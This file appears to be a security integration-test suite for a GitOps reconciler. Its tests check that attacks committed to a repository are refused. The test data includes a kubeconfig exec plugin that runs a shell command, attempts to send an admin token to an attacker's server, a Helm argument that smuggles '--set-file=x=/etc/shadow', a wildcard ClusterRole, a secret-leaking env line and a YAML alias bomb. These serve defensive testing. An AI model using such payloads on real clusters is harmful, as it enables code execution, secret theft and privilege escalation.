"""A person with push access attacks the reconciler through the repository (issue 14):
each attack once demonstrated against this project, now refused with a message naming
the file, the line and the field, with nothing applied, no subprocess started and no
request sent. Real Git repositories made by the tests, the built-in API server (HTTPS),
and a real loopback HTTP server standing in for the attacker's."""

from __future__ import annotations

import asyncio
import http.server
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from gitops.cluster import Destination
from gitops.config import Config
from gitops.source import GitSource
from gitops.sync import AppSync, Mode, RunOptions, SyncResult
from tests.conftest import ClusterProcess
from tests.integration.harness import Repo, kubectl

pytestmark = pytest.mark.integration

SYNC = RunOptions(Mode.SYNC, timeout=30)


def configmap(name: str, namespace: str | None = None) -> str:
    meta: dict[str, Any] = {"name": name}
    if namespace:
        meta["namespace"] = namespace
    return yaml.safe_dump({"apiVersion": "v1", "kind": "ConfigMap", "metadata": meta})


def declared(name: str, spec: dict[str, Any]) -> str:
    return yaml.safe_dump(
        {
            "apiVersion": "gitops.dev/v1alpha1",
            "kind": "Application",
            "metadata": {"name": name},
            "spec": spec,
        }
    )


def run(
    cluster: ClusterProcess, config: Config, app: str, cache: Path
) -> tuple[SyncResult, AppSync]:
    application = config.application(app)
    assert application is not None

    async def go() -> tuple[SyncResult, AppSync]:
        async with Destination.from_kubeconfig(cluster.kubeconfig) as dest:
            runner = AppSync(application, GitSource(cache), dest, config)
            return await runner.run(SYNC), runner

    return asyncio.run(go())


def root_config(repo: Path, *, project: dict[str, Any] | None = None, **config: Any) -> Config:
    """The operator's config: a root Application on ``repo`` in a project like the one
    ``gitops up`` gives its root (its own repository, the built-in cluster)."""
    bounds = project or {
        "name": "root",
        "sourceRepos": [str(repo)],
        "destinations": [{"cluster": "builtin", "namespace": "*"}],
        "clusterResourceWhitelist": [{"group": "*", "kind": "*"}],
    }
    return Config.model_validate(
        {
            "applications": [
                {
                    "name": "root",
                    "project": bounds["name"],
                    "source": {"repoURL": str(repo), "path": "root"},
                    "destination": {"namespace": "untrusted"},
                }
            ],
            "projects": [bounds],
            **config,
        }
    )


def configmaps(cluster: ClusterProcess, namespace: str) -> list[str]:
    out = kubectl(cluster, "get", "configmaps", "-n", namespace, "-o", "name")
    return sorted(line.removeprefix("configmap/") for line in out.split())


@pytest.fixture(scope="module")
def namespaces(cluster: ClusterProcess) -> ClusterProcess:
    for name in ("untrusted", "team-a", "team-b"):
        kubectl(cluster, "create", "namespace", name)
    return cluster


class Recorder(http.server.BaseHTTPRequestHandler):
    """The attacker's server: records every request it gets."""

    seen: list[str] = []

    def do_GET(self) -> None:
        Recorder.seen.append(f"{self.command} {self.path} {self.headers.get('Authorization')}")
        self.send_response(401)
        self.send_header("WWW-Authenticate", 'Basic realm="x"')
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[str]:
    Recorder.seen = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/x.git"
    finally:
        server.shutdown()
        server.server_close()


def test_a_declared_application_cannot_point_at_a_kubeconfig_whose_exec_plugin_runs_a_script(
    namespaces: ClusterProcess, tmp_path: Path
) -> None:
    cluster = namespaces
    marker = tmp_path / "pwned"
    repo = Repo(tmp_path / "repo")
    evil = {
        "apiVersion": "v1",
        "kind": "Config",
        "clusters": [{"name": "c", "cluster": {"server": "https://127.0.0.1:1"}}],
        "users": [
            {
                "name": "u",
                "user": {
                    "exec": {
                        "apiVersion": "client.authentication.k8s.io/v1",
                        "command": "/bin/sh",
                        "args": ["-c", f"touch {marker}"],
                        "interactiveMode": "Never",
                    }
                },
            }
        ],
        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
        "current-context": "c",
    }
    # Commit A puts the kubeconfig into the reconciler's Git cache.
    repo.commit({"evil/kubeconfig.yaml": yaml.safe_dump(evil), "root/cm.yaml": configmap("a")})
    config = root_config(repo.path)
    first, _ = run(cluster, config, "root", tmp_path / "cache")
    assert first.ok, first.error
    (planted,) = (tmp_path / "cache").glob("trees/*/*/evil/kubeconfig.yaml")
    # Commit B declares an Application whose destination is that file.
    repo.commit(
        {
            "root/cm.yaml": configmap("b"),
            "root/apps.yaml": declared(
                "child",
                {
                    "source": {"path": "evil"},
                    "destination": {"cluster": {"kubeconfig": str(planted)}},
                },
            ),
        }
    )
    second, runner = run(cluster, config, "root", tmp_path / "cache")
    assert not second.ok and second.error_phase == "build"
    assert "root/apps.yaml:1" in second.error
    assert "spec.destination.cluster: an Application declared in a repository names a cluster" in (
        second.error
    )
    assert runner.children == []
    assert not marker.exists(), "the exec plugin ran"
    live = configmaps(cluster, "untrusted")
    assert "a" in live and "b" not in live, "nothing of the refused commit is applied"


def test_a_declared_application_cannot_send_host_credentials_to_a_repository_it_names(
    namespaces: ClusterProcess, tmp_path: Path, attacker: str
) -> None:
    cluster = namespaces
    token = tmp_path / "admin-token"
    token.write_text("s3cret-admin-token")
    repo = Repo(tmp_path / "repo")
    for credentials in ({"tokenFile": str(token)}, {"tokenEnv": "GITOPS_WEBHOOK_SECRET"}):
        repo.commit(
            {
                "root/apps.yaml": declared(
                    "exfil", {"source": {"repoURL": attacker, "credentials": credentials}}
                )
            }
        )
        result, runner = run(cluster, root_config(repo.path), "root", tmp_path / "cache")
        assert not result.ok and result.error_phase == "build"
        assert "root/apps.yaml:1" in result.error
        assert "spec.source.credentials: an Application declared in a repository names" in (
            result.error
        )
        assert runner.children == []
    # A named credential of the operator's, to a repository outside the project.
    repo.commit(
        {
            "root/apps.yaml": declared(
                "exfil", {"source": {"repoURL": attacker, "credentials": "github"}}
            )
        }
    )
    config = root_config(
        repo.path,
        credentials={"github": {"tokenFile": str(token)}},
        project={
            "name": "root",
            "sourceRepos": [str(repo.path)],
            "destinations": [{"cluster": "builtin", "namespace": "*"}],
            "credentials": ["github"],
        },
    )
    result, runner = run(cluster, config, "root", tmp_path / "cache")
    assert not result.ok
    assert f"spec.source.repoURL: {attacker!r} is not one of the source repositories" in (
        result.error
    )
    assert Recorder.seen == [], "a request reached the attacker's server"


def test_local_paths_and_file_urls_in_declared_applications_are_refused(
    namespaces: ClusterProcess, tmp_path: Path
) -> None:
    repo = Repo(tmp_path / "repo")
    for url in ("/etc", "file:///etc", str(repo.path)):
        repo.commit({"root/apps.yaml": declared("local", {"source": {"repoURL": url}})})
        result, runner = run(namespaces, root_config(repo.path), "root", tmp_path / "cache")
        assert not result.ok, url
        assert "may not name a local path or a file:// URL" in result.error
        assert runner.children == []


def test_a_helm_release_name_that_reads_as_a_flag_is_refused_naming_the_field(
    namespaces: ClusterProcess, tmp_path: Path
) -> None:
    repo = Repo(tmp_path / "repo")
    repo.commit(
        {
            "root/apps.yaml": declared(
                "chart",
                {
                    "source": {
                        "path": "chart",
                        "build": {
                            "kind": "helm",
                            "helm": {"releaseName": "--set-file=x=/etc/shadow"},
                        },
                    }
                },
            )
        }
    )
    result, runner = run(namespaces, root_config(repo.path), "root", tmp_path / "cache")
    assert not result.ok
    assert (
        "spec.source.build.helm.releaseName: releaseName '--set-file=x=/etc/shadow' is invalid"
        in (result.error)
    )
    assert runner.children == []


def test_a_declared_application_may_not_leave_its_parents_project_or_deploy_outside_it(
    namespaces: ClusterProcess, tmp_path: Path
) -> None:
    repo = Repo(tmp_path / "repo")
    project = {
        "name": "team-a",
        "sourceRepos": [str(repo.path)],
        "destinations": [{"cluster": "builtin", "namespace": "team-a"}],
    }
    config = Config.model_validate(
        {
            "applications": [
                {
                    "name": "root",
                    "project": "team-a",
                    "source": {"repoURL": str(repo.path), "path": "root"},
                    "destination": {"namespace": "team-a"},
                }
            ],
            "projects": [project, {"name": "admin", "sourceRepos": ["*"]}],
        }
    )
    repo.commit(
        {"root/apps.yaml": declared("escape", {"project": "admin", "source": {"path": "x"}})}
    )
    result, _ = run(namespaces, config, "root", tmp_path / "cache")
    assert "spec.project: 'admin' is not allowed" in result.error
    repo.commit(
        {
            "root/apps.yaml": declared(
                "elsewhere", {"source": {"path": "x"}, "destination": {"namespace": "team-b"}}
            )
        }
    )
    result, _ = run(namespaces, config, "root", tmp_path / "cache")
    assert "does not allow namespace 'team-b'" in result.error


def test_a_project_allowing_team_a_only_refuses_a_commit_reaching_team_b_or_a_cluster_role(
    namespaces: ClusterProcess, tmp_path: Path
) -> None:
    cluster = namespaces
    repo = Repo(tmp_path / "repo")
    config = Config.model_validate(
        {
            "applications": [
                {
                    "name": "team-a",
                    "project": "team-a",
                    "source": {"repoURL": str(repo.path), "path": "app"},
                    "destination": {"namespace": "team-a"},
                }
            ],
            "projects": [
                {
                    "name": "team-a",
                    "sourceRepos": [str(repo.path)],
                    "destinations": [{"cluster": "builtin", "namespace": "team-a"}],
                }
            ],
        }
    )
    cluster_role = yaml.safe_dump(
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "ClusterRole",
            "metadata": {"name": "team-a-escalate"},
            "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}],
        }
    )
    repo.commit(
        {"app/mine.yaml": configmap("mine"), "app/theirs.yaml": configmap("theirs", "team-b")}
    )
    result, _ = run(cluster, config, "team-a", tmp_path / "cache")
    assert not result.ok
    assert "app/theirs.yaml:1" in result.error
    assert "project 'team-a' does not allow namespace 'team-b'" in result.error
    assert "mine" not in configmaps(cluster, "team-a") and "theirs" not in configmaps(
        cluster, "team-b"
    )

    repo.commit({"app/theirs.yaml": None, "app/role.yaml": cluster_role})
    result, _ = run(cluster, config, "team-a", tmp_path / "cache")
    assert not result.ok
    assert "app/role.yaml:1" in result.error
    assert (
        "does not allow cluster-scoped kind ClusterRole.rbac.authorization.k8s.io" in result.error
    )
    assert "mine" not in configmaps(cluster, "team-a")
    assert "team-a-escalate" not in kubectl(cluster, "get", "clusterroles", "-o", "name")

    repo.commit({"app/role.yaml": None})
    result, _ = run(cluster, config, "team-a", tmp_path / "cache")
    assert result.ok, result.error
    assert "mine" in configmaps(cluster, "team-a")


def test_a_kustomize_env_line_without_a_value_never_copies_the_reconcilers_variable(
    namespaces: ClusterProcess, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITOPS_WEBHOOK_SECRET", "s3cret-webhook")
    repo = Repo(tmp_path / "repo")
    repo.commit(
        {
            "root/kustomization.yaml": (
                "namespace: untrusted\nconfigMapGenerator:\n"
                "- name: leak\n  envs: [app.env]\n  options: {disableNameSuffixHash: true}\n"
            ),
            "root/app.env": "GITOPS_WEBHOOK_SECRET\n",
        }
    )
    result, _ = run(namespaces, root_config(repo.path), "root", tmp_path / "cache")
    assert result.ok, result.error
    data = kubectl(namespaces, "get", "cm", "leak", "-n", "untrusted", "-o", "jsonpath={.data}")
    assert "s3cret-webhook" not in data
    assert data == '{"GITOPS_WEBHOOK_SECRET":""}'


def test_an_alias_bomb_is_refused_while_loading_with_its_file_and_nothing_applied(
    namespaces: ClusterProcess, tmp_path: Path
) -> None:
    levels = ["a: &a [x,x,x,x,x,x,x,x,x]"]
    for i in range(1, 9):
        previous = chr(ord("a") + i - 1)
        levels.append(
            f"{chr(ord('a') + i)}: &{chr(ord('a') + i)} [" + ",".join([f"*{previous}"] * 9) + "]"
        )
    bomb = (
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\ndata:\n  x: y\n"
        + "\n".join(levels)
        + "\n"
    )
    repo = Repo(tmp_path / "repo")
    repo.commit({"root/ok.yaml": configmap("fine"), "root/bomb.yaml": bomb})
    started = time.monotonic()
    result, _ = run(namespaces, root_config(repo.path), "root", tmp_path / "cache")
    assert time.monotonic() - started < 30
    assert not result.ok and result.error_phase == "build"
    assert "root/bomb.yaml" in result.error and "alias" in result.error.lower()
    assert "fine" not in configmaps(namespaces, "untrusted")


def test_a_commit_cannot_relabel_a_namespace_below_its_projects_pod_security(
    namespaces: ClusterProcess, tmp_path: Path
) -> None:
    repo = Repo(tmp_path / "repo")
    project = {
        "name": "root",
        "sourceRepos": [str(repo.path)],
        "destinations": [{"cluster": "builtin", "namespace": "*"}],
        "clusterResourceWhitelist": [{"group": "", "kind": "Namespace"}],
        "minimumPodSecurity": "baseline",
    }

    def namespace(level: str) -> str:
        labels = {"pod-security.kubernetes.io/enforce": level}
        return yaml.safe_dump(
            {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "pss", "labels": labels}}
        )

    repo.commit({"root/ns.yaml": namespace("privileged")})
    config = root_config(repo.path, project=project)
    result, _ = run(namespaces, config, "root", tmp_path / "cache")
    assert not result.ok and "root/ns.yaml:1" in result.error
    assert "does not allow the label pod-security.kubernetes.io/enforce=privileged" in result.error
    assert "pss" not in kubectl(namespaces, "get", "namespaces", "-o", "name")
    repo.commit({"root/ns.yaml": namespace("restricted")})
    result, _ = run(namespaces, config, "root", tmp_path / "cache")
    assert result.ok, result.error
